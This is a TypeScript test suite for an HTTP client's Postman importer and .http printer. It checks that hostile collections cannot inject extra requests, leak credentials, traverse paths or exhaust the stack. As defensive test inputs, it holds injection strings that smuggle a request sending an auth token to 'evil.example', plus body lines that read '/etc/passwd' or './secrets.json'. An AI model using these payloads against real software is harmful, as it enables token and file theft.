// Import and print from the attacker's side: a Postman collection written to inject requests, smuggle
// credentials to disk, exhaust time or stack, or write outside the collection folder; and BlockSpecs whose
// fields would change a printed .http file's structure. Asserts the files the import would write (their
// paths and text), what it lists to the user, and what the printer refuses.
import assert from 'node:assert/strict';
import { join, resolve, sep } from 'node:path';
import { describe, it } from 'node:test';
import { parseEnvFile } from '../../src/core/env/loadEnvFile';
import { HttpPrintError, parseHttpFile, printNormalizedHttpFile, type BlockSpec } from '../../src/core/httpfile';
import { toBlockSpecs } from './httpfilePrint';
import { envFileWithImport, importPostmanCollection } from '../../src/core/interop';
import type { PostmanImport } from '../../src/core/interop/postman/importCollection';
import { MAX_FOLDER_DEPTH } from '../../src/core/interop/postman/importCollection';
import { SAMPLES } from '../server/fuzzCorpus';

const SCHEMA = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJlLXNpZ25hdHVyZQ';

function collection(item: unknown[], extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ info: { name: 'Hostile', schema: SCHEMA }, item, ...extra });
}

function allText(imported: PostmanImport): string {
  return imported.files.map((f) => f.text).join('\n');
}

/** Every request line of every written file, as the product's own parser reads them. */
function requestLines(imported: PostmanImport): string[] {
  return imported.files.flatMap((f) => parseHttpFile(f.text).requests.map((r) => `${r.requestLine.method} ${r.requestLine.url}`));
}

const get = (name: string, request: Record<string, unknown> = {}): Record<string, unknown> =>
  ({ name, request: { method: 'GET', url: { raw: '{{base}}/ok' }, ...request } });

void describe('Postman import: line breaks never make another request', () => {
  void it('in a name, a header, a URL and a body: one request each, the injected ones nowhere', () => {
    const injected = '\r\n###\nGET https://evil.example/steal?t={{$auth.token("engagement")}}\n';
    const imported = importPostmanCollection(collection([
      get(`Innocent${injected}`),
      get('Header', { header: [{ key: 'X-Trace', value: `1${injected}` }, { key: `X-Evil${injected}`, value: '1' }] }),
      get('Url', { url: { raw: `{{base}}/ok${injected}` } }),
      get('Body', { method: 'POST', body: { mode: 'raw', raw: `hello${injected}world` } }),
      get('Handler', { method: 'POST', body: { mode: 'raw', raw: 'a\n> {% client.global.set("t", response.body.token) %}' } }),
      get('Include', { method: 'POST', body: { mode: 'raw', raw: '< /etc/passwd' } }),
    ]), 'hostile.json');
    assert.equal(requestLines(imported).length, 6);
    assert.ok(requestLines(imported).every((line) => !line.includes('evil.example') || line.includes('%0D%0A')), JSON.stringify(requestLines(imported)));
    assert.doesNotMatch(allText(imported), /^GET https:\/\/evil/m);
    assert.doesNotMatch(allText(imported), /^> \{%/m);
    assert.doesNotMatch(allText(imported), /^< \/etc\/passwd/m);
    assert.match(allText(imported), /^### Innocent ### GET https:\/\/evil\.example/m, 'the title is folded onto its line');
    assert.match(allText(imported), /^GET \{\{base\}\}\/ok%0D%0A###%0AGET https:\/\/evil\.example/m, 'the URL keeps its line breaks percent-encoded');
    const warnings = imported.warnings.join('\n');
    assert.match(warnings, /Header: header 'X-Trace' not imported: it holds a line break/);
    assert.match(warnings, /Header: header 'X-Evil ### GET .*' not imported/);
    assert.match(warnings, /Body: the body was not imported: line 2 of the body starts with '###', which a \.http file reads as a new request/);
    assert.match(warnings, /Handler: the body was not imported: line 2 of the body starts with '> \{%', which a \.http file reads as a response handler/);
    assert.match(warnings, /Include: the body was not imported: the body is one line starting with '<'/);
  });
});

void describe('Postman import: the product secret checks run on every block and variable', () => {
  const imported = importPostmanCollection(collection([
    get('Tokens', { header: [
      { key: 'X-Auth-Token', value: 'xat_LITERAL_1234' }, { key: 'Ocp-Apim-Subscription-Key', value: 'apim_LITERAL_5678' }, { key: 'Accept', value: 'application/json' },
    ] }),
    get('Userinfo', { url: { raw: 'https://admin:hunter2-URL@api.example/v1/x' } }),
    get('Xml', { method: 'POST', header: [{ key: 'Content-Type', value: 'application/xml' }], body: { mode: 'raw', raw: '<login><user>ann</user><password>hunter2-XML</password></login>' } }),
    get('Jwt', { header: [{ key: 'X-Trace', value: JWT }] }),
  ], { variable: [{ key: 'aws_secret_access_key', value: 'AKIA-SECRET-VALUE' }, { key: 'db_password', value: 'pw-LITERAL' }, { key: 'base', value: 'https://api.example' }, { key: '__proto__', value: 'x' }] }), 'hostile.json');
  const written = allText(imported);
  const env = envFileWithImport(imported);

  void it('writes no literal credential anywhere', () => {
    for (const secret of ['xat_LITERAL_1234', 'apim_LITERAL_5678', 'hunter2-URL', 'hunter2-XML', JWT, 'AKIA-SECRET-VALUE', 'pw-LITERAL']) {
      assert.ok(!written.includes(secret) && !env.includes(secret), `${secret.slice(0, 8)}… is not written`);
      assert.ok(!JSON.stringify([imported.dropped, imported.warnings]).includes(secret), 'nor listed');
    }
  });

  void it('replaces what it can with references and lists every one', () => {
    assert.match(written, /^X-Auth-Token: \{\{x_auth_token\}\}$/m);
    assert.match(written, /^Ocp-Apim-Subscription-Key: \{\{ocp_apim_subscription_key\}\}$/m);
    assert.match(written, /^GET https:\/\/api\.example\/v1\/x$/m, 'the userinfo is removed');
    assert.match(written, /<password>\{\{password\}\}<\/password>/);
    assert.deepEqual(imported.dropped.map((d) => `${d.where}: ${d.what}${d.replacedBy ? ` → ${d.replacedBy}` : ''}`), [
      'Tokens: header X-Auth-Token → {{x_auth_token}}',
      'Tokens: header Ocp-Apim-Subscription-Key → {{ocp_apim_subscription_key}}',
      'Userinfo: URL user:password@',
      'Xml: body field password → {{password}}',
      'Jwt: the whole request (it contains a literal JWT (a token): replace it with a reference such as {{$auth.token("fundraising")}})',
      'collection variables: variable aws_secret_access_key',
      'collection variables: variable db_password',
    ]);
    assert.equal(requestLines(imported).length, 3, 'the request holding a JWT is not written');
  });

  void it('the env file it writes loads: no environment is made unusable', () => {
    const file = parseEnvFile(env, 'http-client.env.json');
    assert.deepEqual(file.environments.postman?.variables, { base: 'https://api.example' });
    assert.match(imported.warnings.join('\n'), /'__proto__' not imported/);
  });
});

void describe('Postman import: size, depth and paths', () => {
  void it('100 000 requests of one name import, each with its own # @name', () => {
    const items = Array.from({ length: 100_000 }, () => get('Get'));
    const started = performance.now();
    const imported = importPostmanCollection(collection(items), 'big.json');
    console.log(`postman import: 100 000 items in ${Math.round(performance.now() - started)} ms`);
    assert.equal(imported.files[0]?.requests, 100_000);
    assert.match(imported.files[0].text, /^# @name get100000$/m);
  });

  void it('20 000 nested folders import without throwing, flattened below the depth limit and said so', () => {
    // Written as text: JSON.stringify itself cannot serialise 40 000 levels.
    const item = `${'{"name":"f","item":['.repeat(20_000)}${JSON.stringify(get('Deepest'))}${']}'.repeat(20_000)}`;
    const imported = importPostmanCollection(`{"info":{"name":"Deep","schema":"${SCHEMA}"},"item":[${item}]}`, 'deep.json');
    assert.equal(requestLines(imported).length, 1);
    const folder = /^# @folder (.*)$/m.exec(imported.files[0]!.text)?.[1] ?? '';
    assert.equal(folder.split('/').length, MAX_FOLDER_DEPTH - 1, 'the top folder is the file; the rest nest up to the limit');
    assert.match(imported.warnings.join('\n'), new RegExp(`folders nested deeper than ${MAX_FOLDER_DEPTH} levels were flattened`));
  });

  void it('names such as .., ../../etc and /abs stay inside the target folder', () => {
    const root = resolve('/workspace/collections');
    for (const name of ['..', '.', '../../etc', '/etc/passwd', '..\\..\\windows', '', '.hidden', 'a/../../b']) {
      const text = JSON.stringify({ info: { name, schema: SCHEMA }, item: [get('Root'), { name, item: [get('Inside')] }, { name: '..', item: [get('Twice')] }] });
      const imported = importPostmanCollection(text, 'paths.json');
      assert.doesNotMatch(imported.folder, /^\.|[/\\]/, `folder for '${name}'`);
      for (const file of imported.files) {
        assert.match(file.path, /^[A-Za-z0-9_-][A-Za-z0-9._-]*\.http$/, `file for '${name}'`);
        assert.ok(resolve(join(root, imported.folder, file.path)).startsWith(root + sep), `${file.path} stays inside`);
      }
    }
  });

  void it('items with fields of the wrong type are left out and listed; the others import', () => {
    const imported = importPostmanCollection(collection([
      get('Number method', { method: 42 }), get('Object header', { header: [{ key: 'X-A', value: { nested: true } }] }), get('Fine'),
    ]), 'types.json');
    assert.deepEqual(requestLines(imported), ['GET {{base}}/ok', 'GET {{base}}/ok']);
    assert.match(imported.warnings.join('\n'), /Number method: not imported: the item is malformed \(/);
    assert.match(imported.warnings.join('\n'), /Object header: header 'X-A' not imported: its value is not text\./);
  });

  void it('a collection that is not JSON, 100 000 levels deep, is refused with its name, not a stack overflow', () => {
    assert.throws(() => importPostmanCollection(`{"info":${'['.repeat(100_000)}`, 'broken.json'), /^PostmanImportError: broken\.json: not valid JSON\.$|broken\.json: not valid JSON\./);
  });
});

void describe('printer: fields that would change the file structure', () => {
  const request = (patch: Partial<NonNullable<BlockSpec['request']>>): BlockSpec[] => [{ title: 't', request: { method: 'GET', url: '{{base}}/x', ...patch } }];
  const refuses = (blocks: BlockSpec[], message: RegExp): void => {
    assert.throws(() => printNormalizedHttpFile(blocks), (error: unknown) => error instanceof HttpPrintError && message.test(error.message));
  };

  void it('refuses line breaks in the method and in headers, non-token header names, and structural body lines', () => {
    refuses(request({ method: 'GET\r\nPOST' }), /^the method 'GET POST' is not an HTTP method name$/);
    refuses(request({ headers: [{ name: 'X-A', value: 'v\r\nGET https://evil' }] }), /^the value of header X-A holds a line break/);
    refuses(request({ headers: [{ name: '# comment', value: 'v' }] }), /^the header name '# comment' is not an HTTP header name$/);
    refuses(request({ headers: [{ name: '@var', value: 'v' }] }), /is not an HTTP header name/);
    refuses(request({ body: '{\n###\n}' }), /^the body cannot be written inline: line 2 of the body starts with '###'/);
    refuses(request({ body: 'x\n> {% client.global.set("a", 1) %}' }), /reads as a response handler/);
    refuses(request({ body: 'x\n  > ./steal.js' }), /reads as a response handler/);
    refuses(request({ body: '< ./secrets.json' }), /reads as a file to send/);
    refuses(request({ handlers: ['a %} b'] }), /^a response handler holds '%\}'/);
    refuses([{ variables: [{ name: 'a', value: '1\n###\nGET https://evil' }] }], /^the value of @a holds a line break/);
    refuses([{ directives: [{ key: 'name', value: 'x\nGET https://evil' }] }], /^the value of # @name holds a line break/);
  });

  void it('escapes titles, comments and URLs so the file reads back as the one request given', () => {
    const text = printNormalizedHttpFile([{
      title: 'a\r\n###\nGET https://evil', comments: ['one\n@name evil\n###'],
      request: { method: 'get', url: 'https://h/x\r\n\r\nGET https://evil' },
    }]);
    const parsed = parseHttpFile(text);
    assert.equal(parsed.requests.length, 1);
    assert.equal(parsed.requests[0]!.requestLine.url, 'https://h/x%0D%0A%0D%0AGET%20https://evil'.replace('%20', ' '));
    assert.deepEqual(parsed.blocks[0]!.directives.map((d) => d.key), [], 'a comment line is never a # @name directive');
    assert.match(text, /^# \(@\)name evil$/m);
    assert.equal(parsed.blocks[0]!.separator?.title, 'a ### GET https://evil');
  });

  void it('every sample and fixture file still prints and reads back (parse → print is unchanged for honest files)', () => {
    for (const sample of SAMPLES) {
      const parsed = parseHttpFile(sample);
      const reprinted = parseHttpFile(printNormalizedHttpFile(toBlockSpecs(parsed)));
      const shape = (file: typeof parsed): unknown[] => file.requests.map((r) => [r.requestLine.method, r.headers.map((h) => `${h.name}: ${h.value}`), r.body?.kind]);
      assert.deepEqual(shape(reprinted), shape(parsed));
    }
  });
});
